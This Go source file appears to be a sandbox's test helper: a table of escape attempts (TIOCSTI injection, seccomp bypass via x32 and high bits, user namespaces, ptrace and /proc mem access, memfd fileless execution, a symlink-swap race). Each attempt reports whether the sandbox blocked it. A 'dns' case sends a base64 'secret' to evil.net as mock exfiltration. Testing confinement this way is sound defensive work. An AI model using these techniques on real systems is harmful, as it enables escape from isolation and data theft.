package sandbox

import (
	"fmt"
	"net"
	"os"
	"runtime"
	"strconv"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/net/bpf"
	"golang.org/x/sys/unix"
)

// attacks are what a program inside tries and a shell cannot. Each exits with 0 if it succeeded, and otherwise says
// why not.
var attacks = map[string]func(args []string) error{
	"tiocsti": func([]string) error {
		c := byte('x')
		_, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI, uintptr(unsafe.Pointer(&c)))
		if errno != unix.EPERM {
			return nil // without the filter it is ENOTTY here
		}
		return errno
	},
	"tiocsti with high bits": func([]string) error {
		c := byte('x')
		_, _, errno := unix.Syscall(unix.SYS_IOCTL, 0, unix.TIOCSTI|1<<32, uintptr(unsafe.Pointer(&c)))
		if errno != unix.EPERM {
			return nil
		}
		return errno
	},
	"x32": func([]string) error { return reaches(unix.SYS_GETPID | x32Bit) },
	"call": func(args []string) error {
		number, _ := strconv.Atoi(args[0])
		_, _, errno := unix.Syscall(uintptr(number), 0, 0, 0)
		return errno
	},
	"io_uring": func([]string) error {
		var params [120]byte
		fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 8, uintptr(unsafe.Pointer(&params)), 0)
		if errno == 0 {
			unix.Close(int(fd))
			return nil
		}
		return errno
	},
	"bpf": func([]string) error {
		var attr [128]byte
		_, _, errno := unix.Syscall(unix.SYS_BPF, 99, uintptr(unsafe.Pointer(&attr)), 128)
		if errno == unix.EINVAL {
			return nil
		}
		return errno
	},
	"keyctl": func([]string) error {
		_, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, true)
		return err
	},
	"userfaultfd": func([]string) error {
		fd, _, errno := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|1, 0, 0)
		if errno == 0 {
			unix.Close(int(fd))
			return nil
		}
		return errno
	},
	"unshare userns": func([]string) error {
		return inThread(func() error { return syscall.Unshare(syscall.CLONE_NEWUSER | syscall.CLONE_FS) })
	},
	"clone userns": func([]string) error {
		p, err := os.StartProcess("/bin/true", []string{"true"},
			&os.ProcAttr{Sys: &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER}})
		if err == nil {
			p.Wait()
		}
		return err
	},
	"mount": func(args []string) error { return unix.Mount(args[0], args[1], "", unix.MS_BIND, "") },
	"mount api": func(args []string) error {
		fd, err := unix.OpenTree(unix.AT_FDCWD, args[0], unix.OPEN_TREE_CLONE)
		if err != nil {
			return err
		}
		return unix.MoveMount(fd, "", unix.AT_FDCWD, args[1], unix.MOVE_MOUNT_F_EMPTY_PATH)
	},
	"umount": func(args []string) error { return unix.Unmount(args[0], unix.MNT_DETACH) },
	"raw":    func([]string) error { return socketOf(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP) },
	"packet": func([]string) error { return socketOf(unix.AF_PACKET, unix.SOCK_RAW, 0x300) },
	"mptcp":  func([]string) error { return socketOf(unix.AF_INET, unix.SOCK_STREAM, protocolMPTCP) },
	"vsock":  func([]string) error { return socketOf(unix.AF_VSOCK, unix.SOCK_STREAM, 0) },
	"abstract": func(args []string) error {
		c, err := net.Dial("unix", "@"+args[0])
		if err == nil {
			c.Close()
		}
		return err
	},
	"tcp": func(args []string) error {
		c, err := net.Dial("tcp", args[0])
		if err == nil {
			c.Close()
		}
		return err
	},
	"listen": func(args []string) error {
		l, err := net.Listen("tcp4", args[0])
		if err == nil {
			l.Close()
		}
		return err
	},
	"udp": func(args []string) error {
		c, err := net.Dial("udp", args[0])
		if err == nil {
			_, err = c.Write([]byte("x"))
		}
		return err
	},
	"dns": func(args []string) error {
		c, err := net.Dial("udp", args[0])
		if err != nil {
			return err
		}
		defer c.Close()
		if _, err := c.Write([]byte("c2VjcmV0.evil.net")); err != nil {
			return err
		}
		_ = c.SetReadDeadline(time.Now().Add(10 * time.Second)) // an answer comes at once
		_, err = c.Read(make([]byte, 64))
		return err
	},
	"unix": func(args []string) error {
		c, err := net.Dial("unix", args[0])
		if err == nil {
			c.Close()
		}
		return err
	},
	"ptrace": func(args []string) error {
		pid, _ := strconv.Atoi(args[0])
		return inThread(func() error { return unix.PtraceSeize(pid) })
	},
	"mem": func(args []string) error {
		f, err := os.OpenFile("/proc/"+args[0]+"/mem", os.O_RDWR, 0)
		if err == nil {
			f.Close()
		}
		return err
	},
	"kill": func(args []string) error {
		pid, _ := strconv.Atoi(args[0])
		return unix.Kill(pid, 0)
	},
	"descriptors": func([]string) error {
		for fd := 3; fd < 64; fd++ {
			if link, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd)); err == nil && link == "/" {
				return nil
			}
		}
		return fmt.Errorf("no descriptor of / is open")
	},
	"memfd": func(args []string) error {
		// A program that is in no file, which then tries to write args[0].
		fd, err := unix.MemfdCreate("evil", 0)
		if err != nil {
			return err
		}
		data, err := os.ReadFile("/usr/bin/touch")
		if err != nil {
			return err
		}
		if _, err := unix.Write(fd, data); err != nil {
			return err
		}
		p, err := os.StartProcess(fmt.Sprintf("/proc/self/fd/%d", fd), []string{"touch", args[0]},
			&os.ProcAttr{Files: []*os.File{nil, os.Stdout, os.Stderr}})
		if err != nil {
			return err
		}
		st, err := p.Wait()
		if err == nil && !st.Success() {
			err = fmt.Errorf("%s", st)
		}
		return err
	},
	"setattr": func(args []string) error { return unix.Setxattr(args[0], "user.x", []byte("y"), 0) },
	"chmod":   func(args []string) error { return os.Chmod(args[0], 0o777) },
	"open by handle": func(args []string) error {
		h, mnt, err := unix.NameToHandleAt(unix.AT_FDCWD, args[0], 0)
		if err != nil {
			return err
		}
		_ = mnt
		dir, err := unix.Open(".", unix.O_RDONLY, 0)
		if err != nil {
			return err
		}
		_, err = unix.OpenByHandleAt(dir, h, unix.O_RDONLY)
		return err
	},
	"swap": swapAttack,
}

// swapAttack keeps exchanging a symbolic link and a directory while it writes through the name.
func swapAttack(args []string) error {
	outside, target := args[0], args[0]+"/evil"
	if err := os.Mkdir("a", 0o755); err != nil {
		return err
	}
	if err := os.Symlink(outside, "b"); err != nil {
		return err
	}
	go func() {
		for {
			_ = unix.Renameat2(unix.AT_FDCWD, "a", unix.AT_FDCWD, "b", unix.RENAME_EXCHANGE)
		}
	}()
	for range 20_000 {
		_ = os.WriteFile("a/evil", []byte("x"), 0o644)
		if _, err := os.Lstat(target); err == nil {
			return nil
		}
	}
	return fmt.Errorf("nothing came through")
}

// reaches reports whether a call with this number passes all filters of the sandbox, even on kernels without the
// call: a filter of the test would have its tracer told about it, and that of the sandbox goes before. A listener
// cannot tell it: the sandbox has the only one.
func reaches(number uint32) error {
	runtime.LockOSThread()
	raw, err := bpf.Assemble([]bpf.Instruction{
		bpf.LoadAbsolute{Off: offNumber, Size: 4}, bpf.JumpIf{Cond: bpf.JumpNotEqual, Val: number, SkipTrue: 1},
		bpf.RetConstant{Val: unix.SECCOMP_RET_TRACE}, bpf.RetConstant{Val: unix.SECCOMP_RET_ALLOW},
	})
	if err != nil {
		return err
	}
	program := make([]unix.SockFilter, len(raw))
	for i, in := range raw {
		program[i] = unix.SockFilter{Code: in.Op, Jt: in.Jt, Jf: in.Jf, K: in.K}
	}
	if err := unix.Prctl(unix.PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0); err != nil {
		return err
	}
	fprog := unix.SockFprog{Len: uint16(len(program)), Filter: &program[0]}
	if _, _, errno := unix.Syscall(unix.SYS_SECCOMP, unix.SECCOMP_SET_MODE_FILTER, 0,
		uintptr(unsafe.Pointer(&fprog))); errno != 0 {
		return errno
	}
	self, err := os.Executable()
	if err != nil {
		return err
	}
	caller, err := os.StartProcess(self, []string{self, roleAttack, "call", strconv.Itoa(int(number))},
		&os.ProcAttr{Files: []*os.File{nil, os.Stdout, os.Stderr}, Sys: &syscall.SysProcAttr{Ptrace: true}})
	if err != nil {
		return err
	}
	defer func() { _ = caller.Kill() }()
	var st unix.WaitStatus
	if _, err := unix.Wait4(caller.Pid, &st, 0, nil); err != nil || st.StopSignal() != unix.SIGTRAP {
		return fmt.Errorf("the caller is not traced: %#x, %w", st, err)
	}
	if err := unix.PtraceSetOptions(caller.Pid, unix.PTRACE_O_TRACESECCOMP|unix.PTRACE_O_TRACECLONE); err != nil {
		return err
	}
	for thread, signal := caller.Pid, 0; ; {
		if err := unix.PtraceCont(thread, signal); err != nil && err != unix.ESRCH {
			return err
		}
		if thread, err = unix.Wait4(-1, &st, unix.WALL, nil); err != nil {
			return err
		}
		switch {
		case st.TrapCause() == unix.PTRACE_EVENT_SECCOMP:
			return nil
		case !st.Stopped() && thread == caller.Pid:
			return fmt.Errorf("the caller ended: %d", st.ExitStatus())
		}
		if signal = 0; st.Stopped() && st.StopSignal() != unix.SIGTRAP && st.StopSignal() != unix.SIGSTOP {
			signal = int(st.StopSignal())
		}
	}
}

func socketOf(family, kind, protocol int) error {
	fd, err := unix.Socket(family, kind, protocol)
	if err == nil {
		unix.Close(fd)
	}
	return err
}

func inThread(f func() error) error {
	runtime.LockOSThread()
	return f()
}

func attackMain(args []string) int {
	if err := attacks[args[0]](args[1:]); err != nil {
		fmt.Println("denied:", err)
		return 1
	}
	fmt.Println("got through")
	return 0
}
